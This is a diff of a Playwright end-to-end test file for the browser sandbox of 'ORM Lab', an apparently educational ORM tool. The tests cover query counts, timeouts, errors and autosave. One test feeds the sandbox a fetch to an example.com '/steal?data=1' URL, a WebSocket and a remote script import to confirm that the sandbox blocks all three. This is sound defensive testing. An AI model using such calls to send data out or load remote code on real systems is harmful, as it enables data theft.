@@ -8,67 +8,25 @@
  * never on fixed sleeps.
  */
 import type { Page } from 'playwright-core';
-import { afterAll, beforeAll, expect, test } from 'vitest';
-import { expectClean, launchBrowser, saveScreenshot, startServer, type TestBrowser, type TestServer } from './harness';
+import { expect, test } from 'vitest';
+import { expectClean, launchBrowser, saveScreenshot, useBuiltSite } from './harness';
+import { EDITOR_READY, editorText, RUNNER_READY, run, savedItem, setCode, waitForWorkspace } from './workspace';
 
-let server: TestServer;
-let browser: TestBrowser;
-
-beforeAll(async () => {
-  server = await startServer();
-  browser = await launchBrowser({ viewport: { width: 1440, height: 900 } });
-});
-
-afterAll(async () => {
-  await browser?.close();
-  await server?.close();
-});
-
-const READY = '[data-testid="runner-status"][data-ready="true"]';
-const EDITOR_READY = '[data-testid="code-editor"][data-editor-state="ready"]';
+const site = useBuiltSite({ viewport: { width: 1440, height: 900 } });
+const CODE_KEY = 'orm-lab:sandbox:code';
 
 /** Opens the sandbox and waits until the database and the editor are ready. */
-async function openSandbox(url = `${server.url}/sandbox`): Promise<Page> {
-  const page = await browser.newPage();
+async function openSandbox(url = `${site.server.url}/sandbox`): Promise<Page> {
+  const page = await site.browser.newPage();
   await page.goto(url);
-  await page.waitForSelector('[data-testid="sandbox"][data-restored="true"]');
-  await page.waitForSelector(READY, { timeout: 90_000 });
-  await page.waitForSelector(EDITOR_READY, { timeout: 60_000 });
+  await waitForWorkspace(page, 'sandbox');
   return page;
 }
 
-async function runCount(page: Page): Promise<number> {
-  return Number(await page.getAttribute('[data-testid="results"]', 'data-run-seq'));
-}
-
-/** Clicks Run and waits for the next result to be rendered. */
-async function run(page: Page): Promise<void> {
-  const before = await runCount(page);
-  await page.click('[data-testid="run-button"]');
-  await page.waitForSelector(`[data-testid="results"][data-run-seq="${before + 1}"]`, { timeout: 30_000 });
-}
-
-/** Replaces the editor's code (as if typed in one go). */
-async function setCode(page: Page, code: string): Promise<void> {
-  await page.click('[data-testid="code-editor"] .view-lines');
-  await page.keyboard.press('ControlOrMeta+a');
-  await page.keyboard.press('Delete');
-  await page.keyboard.insertText(code);
-  // Autosave (debounced) holds exactly what the editor holds.
-  await expect.poll(() => savedCode(page)).toBe(code);
-}
-
-/** The editor's visible text, with Monaco's non-breaking spaces made plain. */
-async function editorText(page: Page): Promise<string> {
-  return (await page.locator('[data-testid="code-editor"] .view-lines').innerText()).replace(/\u00a0/g, ' ');
-}
-
-async function savedCode(page: Page): Promise<string | null> {
-  return page.evaluate(() => localStorage.getItem('orm-lab:sandbox:code'));
-}
+const savedCode = (page: Page) => savedItem(page, CODE_KEY);
 
 test('the N+1 example: 1 + N statements, "101 queries" on the loop line, and a finding naming select_related', async () => {
-  browser.log.clear();
+  site.browser.log.clear();
   const page = await openSandbox();
   await run(page);
 
@@ -92,7 +50,7 @@ test('the N+1 example: 1 + N statements, "101 queries" on the loop line, and a f
   await saveScreenshot(page, 'sandbox-n-plus-one');
 
   // The fix: one query (two at most).
-  await setCode(page, "const posts = Post.objects.select_related('author').order_by('-created_at').slice(0, 100);\nfor (const post of posts) print(post.title, '—', post.author.username);");
+  await setCode(page, "const posts = Post.objects.select_related('author').order_by('-created_at').slice(0, 100);\nfor (const post of posts) print(post.title, '—', post.author.username);", CODE_KEY);
   await run(page);
   await expect.poll(async () => Number(await page.textContent('[data-testid="summary-statements"]'))).toBeLessThanOrEqual(2);
   expect(await page.locator('[data-testid="finding"][data-kind="n_plus_one"]').count()).toBe(0);
@@ -104,14 +62,14 @@ test('the N+1 example: 1 + N statements, "101 queries" on the loop line, and a f
   expect(['SCAN', 'SCAN USING INDEX', 'SEARCH USING INDEX']).toContain(await page.textContent('[data-testid="explain-badge"]'));
   await saveScreenshot(page, 'sandbox-fixed-explain');
 
-  expectClean(browser.log);
+  expectClean(site.browser.log);
   await page.close();
 });
 
 test('an endless loop is stopped at the time limit while the page stays responsive; the next run works', async () => {
-  browser.log.clear();
+  site.browser.log.clear();
   const page = await openSandbox();
-  await setCode(page, 'while (true) {}');
+  await setCode(page, 'while (true) {}', CODE_KEY);
   const started = Date.now();
   await page.click('[data-testid="run-button"]');
   await page.waitForSelector('[data-testid="stop-button"]');
@@ -129,51 +87,51 @@ test('an endless loop is stopped at the time limit while the page stays responsi
   await saveScreenshot(page, 'sandbox-timeout');
 
   // A fresh worker answers the next run, with the dataset restored.
-  await page.waitForSelector(READY, { timeout: 60_000 });
-  await setCode(page, "print(Post.objects.count())");
+  await page.waitForSelector(RUNNER_READY, { timeout: 60_000 });
+  await setCode(page, "print(Post.objects.count())", CODE_KEY);
   await run(page);
   await expect.poll(() => page.textContent('[data-testid="summary-statements"]')).toBe('1');
   expect(await page.locator('[data-testid="output"] li').first().textContent()).toBe('2000');
-  expectClean(browser.log);
+  expectClean(site.browser.log);
   await page.close();
 });
 
 test('a syntax error is reported with its line and marked in the editor', async () => {
-  browser.log.clear();
+  site.browser.log.clear();
   const page = await openSandbox();
-  await setCode(page, "print('ok');\nconst broken = ;\nprint('never');");
+  await setCode(page, "print('ok');\nconst broken = ;\nprint('never');", CODE_KEY);
   await run(page);
   await page.waitForSelector('[data-testid="run-error"][data-error-type="SyntaxError"]');
   expect(await page.textContent('[data-testid="run-error"]')).toContain('line 2');
   await page.waitForSelector('[data-testid="code-editor"] .squiggly-error');
   await saveScreenshot(page, 'sandbox-syntax-error');
-  expectClean(browser.log);
+  expectClean(site.browser.log);
   await page.close();
 });
 
 test('learner code cannot reach the network', async () => {
-  browser.log.clear();
+  site.browser.log.clear();
   const page = await openSandbox();
-  await setCode(page, "print('before');\nfetch('http://example.com/steal?data=1');");
+  await setCode(page, "print('before');\nfetch('http://example.com/steal?data=1');", CODE_KEY);
   await run(page);
   await page.waitForSelector('[data-testid="run-error"]');
   expect(await page.textContent('[data-testid="run-error"]')).toContain('fetch() is disabled in ORM Lab');
-  await setCode(page, "const ws = new WebSocket('ws://example.com');");
+  await setCode(page, "const ws = new WebSocket('ws://example.com');", CODE_KEY);
   await run(page);
   await expect.poll(() => page.textContent('[data-testid="run-error"]')).toContain('WebSocket is disabled in ORM Lab');
-  await setCode(page, "import('http://example.com/x.js');");
+  await setCode(page, "import('http://example.com/x.js');", CODE_KEY);
   await run(page);
   await expect.poll(() => page.textContent('[data-testid="run-error"]')).toContain('import() is disabled in ORM Lab');
-  expect(browser.log.requests.filter((u) => u.includes('example.com'))).toEqual([]);
-  expectClean(browser.log);
+  expect(site.browser.log.requests.filter((u) => u.includes('example.com'))).toEqual([]);
+  expectClean(site.browser.log);
   await page.close();
 });
 
 test('the code survives a reload, and a share link reopens the same code', async () => {
-  browser.log.clear();
+  site.browser.log.clear();
   const page = await openSandbox();
   const code = "// kept across reloads\nprint(Author.objects.filter({ is_active: true }).count());";
-  await setCode(page, code);
+  await setCode(page, code, CODE_KEY);
   await expect.poll(() => savedCode(page)).toBe(code);
 
   await page.reload();
@@ -199,11 +157,11 @@ test('the code survives a reload, and a share link reopens the same code', async
   } finally {
     await other.close();
   }
-  expectClean(browser.log);
+  expectClean(site.browser.log);
 });
 
 test("a typo'd field is squiggled before running (typed declarations)", async () => {
-  browser.log.clear();
+  site.browser.log.clear();
   const page = await openSandbox();
   const typed = await page.getAttribute('[data-testid="sandbox"]', 'data-typed-declarations');
   if (typed !== 'true') {
@@ -211,9 +169,9 @@ test("a typo'd field is squiggled before running (typed declarations)", async ()
     await page.close();
     return;
   }
-  await setCode(page, "print(Post.objects.filter({ titel: 'x' }).count());");
+  await setCode(page, "print(Post.objects.filter({ titel: 'x' }).count());", CODE_KEY);
   await page.waitForSelector('[data-testid="code-editor"] .squiggly-error', { timeout: 30_000 });
   await saveScreenshot(page, 'sandbox-typo-squiggle');
-  expectClean(browser.log);
+  expectClean(site.browser.log);
   await page.close();
 });
